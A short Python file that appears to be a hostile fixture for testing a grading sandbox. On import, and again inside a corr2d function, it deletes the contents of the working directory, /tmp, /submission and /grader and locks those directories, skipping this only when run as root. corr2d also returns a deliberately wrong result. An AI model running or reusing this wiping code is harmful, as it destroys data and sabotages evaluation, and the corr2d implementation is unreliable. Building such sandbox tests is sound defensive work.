# Hostile: deletes what it can reach: its working directory, /tmp, the submission, the
# grader's files in /grader, and its own notebook. Guarded so that a broken sandbox running it
# as root cannot wipe the machine that runs the tests: it never deletes anything as root.
import os
import shutil

import torch


def _wipe():
    if os.getuid() == 0:
        print("running as root: refusing to delete anything (the sandbox is not in place)")
        return
    for top in (os.getcwd(), "/tmp", "/submission", "/grader"):
        if not os.path.isdir(top):
            continue
        for name in os.listdir(top):
            path = os.path.join(top, name)
            try:
                if os.path.isdir(path) and not os.path.islink(path):
                    shutil.rmtree(path)
                else:
                    os.remove(path)
                print("deleted", path)
            except OSError as exc:
                print("could not delete", path, exc)
        try:
            os.chmod(top, 0)
        except OSError:
            pass


_wipe()


def corr2d(X, K):
    _wipe()
    X.add_(1.0)  # wrong on purpose
    return torch.ones(X.shape[0] + 1, X.shape[1])
